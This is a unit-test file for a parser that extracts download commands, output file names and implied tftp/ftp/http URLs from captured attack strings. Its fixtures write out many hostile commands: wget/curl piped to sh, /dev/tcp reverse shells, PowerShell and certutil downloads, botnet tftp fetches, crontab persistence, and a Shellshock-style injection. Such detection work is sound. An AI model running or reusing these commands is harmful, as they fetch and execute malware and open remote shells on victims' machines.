import { describe, expect, it } from 'vitest';
import {
  baseName, commandKey, downloadCommands, impliedUrl, MAX_DOWNLOAD_CHARS, outputFiles,
} from './downloads.js';

describe('download commands', () => {
  it('cuts each command at ;, &&, ||, | and line ends', () => {
    expect(downloadCommands('cd /tmp || cd /var; wget http://198.51.100.1/a; sh a\ncurl -s '
      + 'http://198.51.100.2/b | sh && tftp -g 198.51.100.3 -r c\r\nx')).toEqual([
      'wget http://198.51.100.1/a', 'curl -s http://198.51.100.2/b', 'tftp -g 198.51.100.3 -r c',
    ]);
  });

  it('starts a command inside quotes, subshells and command substitutions', () => {
    expect(downloadCommands('root (curl -fsSL https://example.com/r||wget -q -O- https://example.com/r)|sh'))
      .toEqual(['curl -fsSL https://example.com/r', 'wget -q -O- https://example.com/r']);
    expect(downloadCommands('"/bin/sh","-c","curl -s http://198.51.100.75/d.sh | sh"]'))
      .toEqual(['curl -s http://198.51.100.75/d.sh']);
    expect(downloadCommands('<a>$(/bin/busybox wget -g 198.51.100.9 -r /m)</a>'))
      .toEqual(['/bin/busybox wget -g 198.51.100.9 -r /m']);
    expect(downloadCommands('`cd /tmp/;wget http://198.51.100.44/e -O e`'))
      .toEqual(['wget http://198.51.100.44/e -O e']);
  });

  it('knows nc, /dev/tcp, PowerShell and certutil downloads, and only those', () => {
    expect(downloadCommands('nc 198.51.100.4 80 > x; bash -i >& /dev/tcp/198.51.100.5/9 0>&1'))
      .toEqual(['nc 198.51.100.4 80 > x', 'bash -i >& /dev/tcp/198.51.100.5/9 0>&1']);
    expect(downloadCommands("powershell IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.6/a')"))
      .toEqual(["powershell IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.6/a')"]);
    expect(downloadCommands('certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe'))
      .toHaveLength(1);
    expect(downloadCommands('certutil -hashfile a.exe; rsync x; nc=0001; iwrx; wgetrc'))
      .toEqual([]);
  });

  it('lists wget and curl only when they name a URL, a HOST/PATH or a variable to fetch', () => {
    expect(downloadCommands('wget --version; wget -h; curl --help; wget -i urls.txt'))
      .toEqual([]);
    expect(downloadCommands('wget -q 198.51.100.8/x -O x; curl -s $U | sh; curl -h http://a.example.com/'))
      .toEqual(['wget -q 198.51.100.8/x -O x', 'curl -s $U', 'curl -h http://a.example.com/']);
  });

  it('starts a crontab line at its command, without the schedule or user', () => {
    expect(downloadCommands('*/2 * * * * root curl -fsSL http://198.51.100.40/cr.sh | sh'))
      .toEqual(['curl -fsSL http://198.51.100.40/cr.sh']);
    expect(downloadCommands('nn*/2 * * * * root curl -fsSL http://198.51.100.40/cr.sh'))
      .toEqual(['curl -fsSL http://198.51.100.40/cr.sh']);
    expect(downloadCommands('@reboot wget -q http://198.51.100.41/r -O /tmp/r'))
      .toEqual(['wget -q http://198.51.100.41/r -O /tmp/r']);
  });

  it('leaves out the shell wrapper and a quote left unmatched', () => {
    expect(downloadCommands(`() { :; }; /bin/bash -c "powershell -c IEX((New-Object `
      + `Net.WebClient).DownloadString('http://198.51.100.14/p.ps1')); certutil -urlcache -f `
      + `http://198.51.100.15/a.exe a.exe"`)).toEqual([
      "powershell -c IEX((New-Object Net.WebClient).DownloadString('http://198.51.100.14/p.ps1'))",
      'certutil -urlcache -f http://198.51.100.15/a.exe a.exe',
    ]);
    expect(downloadCommands('sh -c "id; bash -i >& /dev/tcp/198.51.100.17/4444 0>&1"'))
      .toEqual(['bash -i >& /dev/tcp/198.51.100.17/4444 0>&1']);
  });

  it('leaves out the backslash of an escaped quote that ends a nested command', () => {
    expect(downloadCommands(String.raw`bash -c "sh -c \"wget http://198.51.100.4/d.sh\""`))
      .toEqual(['wget http://198.51.100.4/d.sh']);
    expect(downloadCommands(String.raw`sh -c 'curl -O http://198.51.100.5/e.sh\''`))
      .toEqual(['curl -O http://198.51.100.5/e.sh']);
  });

  it('bounds a command and its look-back', () => {
    const long = downloadCommands(`${'x'.repeat(5000)} wget http://198.51.100.1/${'a'.repeat(5000)}`);
    expect(long).toHaveLength(1);
    expect(long[0]?.length).toBeLessThanOrEqual(MAX_DOWNLOAD_CHARS);
  });

  it('compares raw and decoded writings by their decoded form', () => {
    expect(commandKey('wget+http://192.0.2.1/Mozi.m+-O+/tmp/netgear'))
      .toBe('wget http://192.0.2.1/Mozi.m -O /tmp/netgear');
    expect(commandKey('wget%20http://192.0.2.1/a')).toBe('wget http://192.0.2.1/a');
    expect(commandKey('wget+http://192.0.2.1/a+-O+b HTTP/1.1')).toBe('wget http://192.0.2.1/a -O b');
    expect(commandKey(String.raw`wget+http:/\/192.0.2.1/a`)).toBe('wget http://192.0.2.1/a');
  });

  it('ends a command in a request line\'s query before the protocol version', () => {
    expect(downloadCommands('GET /x?c=wget+http://192.0.2.1/a+-O+b HTTP/1.1\r\nHost: x'))
      .toEqual(['wget+http://192.0.2.1/a+-O+b']);
    expect(downloadCommands('GET /x?c=cd /tmp;wget http://192.0.2.1/a HTTP/1.0\r\n'))
      .toEqual(['wget http://192.0.2.1/a']);
  });
});

describe('file names', () => {
  it('takes -O/-o targets, tftp -r/-l names and redirections, as base names', () => {
    expect(outputFiles('wget http://198.51.100.1/a -O /tmp/netgear')).toEqual(['netgear']);
    expect(outputFiles('curl -o cert --insecure https://example.net/x')).toEqual(['cert']);
    expect(outputFiles('busybox wget http://198.51.100.142/w -O -> w')).toEqual(['w']);
    expect(outputFiles('tftp -g -l /tmp/b -r mips 198.51.100.3')).toEqual(['b', 'mips']);
    expect(outputFiles('curl http://198.51.100.1/c >>c.sh 2>/dev/null')).toEqual(['c.sh']);
    expect(outputFiles('wget --output-document=x.bin -O$v http://a -O- -O -')).toEqual(['x.bin']);
  });

  it('refuses names that are not plain file names', () => {
    expect(baseName('/tmp/')).toBeNull();
    expect(baseName('..')).toBeNull();
    expect(baseName('$nam')).toBeNull();
    expect(baseName('http://x/a')).toBeNull();
    expect(baseName('/tmp/China.Z-dukk')).toBe('China.Z-dukk');
  });
});

describe('URLs that tftp and ftpget commands mean', () => {
  it('builds tftp:// from BusyBox and Windows forms', () => {
    expect(impliedUrl('tftp -g 198.51.100.170 -r tftp1.sh')).toBe('tftp://198.51.100.170/tftp1.sh');
    expect(impliedUrl('tftp -r t8UsA2.sh -g 198.51.100.1 69')).toBe('tftp://198.51.100.1:69/t8UsA2.sh');
    expect(impliedUrl('busybox tftp -g -l x -r /bins/arm7 example.com'))
      .toBe('tftp://example.com/bins/arm7');
    expect(impliedUrl('tftp -i 198.51.100.2 GET a.exe')).toBe('tftp://198.51.100.2/a.exe');
    expect(impliedUrl('tftp -g -r x [2001:db8::1]')).toBe('tftp://[2001:db8::1]/x');
  });

  it('builds ftp:// from ftpget', () => {
    expect(impliedUrl('ftpget -v -u anonymous -p anonymous -P 21 198.51.100.3 a.sh a.sh'))
      .toBe('ftp://198.51.100.3:21/a.sh');
    expect(impliedUrl('ftpget 198.51.100.3 local /pub/remote')).toBe('ftp://198.51.100.3/pub/remote');
  });

  it('builds http:// from a scheme-less wget or curl target', () => {
    expect(impliedUrl('wget 198.51.100.13/jaws')).toBe('http://198.51.100.13/jaws');
    expect(impliedUrl('curl -s -o x example.com:8080/b/x.sh')).toBe('http://example.com:8080/b/x.sh');
    expect(impliedUrl('wget -O /tmp/x 198.51.100.13')).toBeNull();
    expect(impliedUrl('wget http://198.51.100.13/a')).toBeNull();
  });

  it('gives nothing without a host or a file', () => {
    expect(impliedUrl('tftp -g -r x')).toBeNull();
    expect(impliedUrl('tftp -g 198.51.100.1')).toBeNull();
    expect(impliedUrl('tftp -g -r $f 198.51.100.1')).toBeNull();
    expect(impliedUrl('wget -g 198.51.100.1 -r /mips')).toBeNull();
  });
});
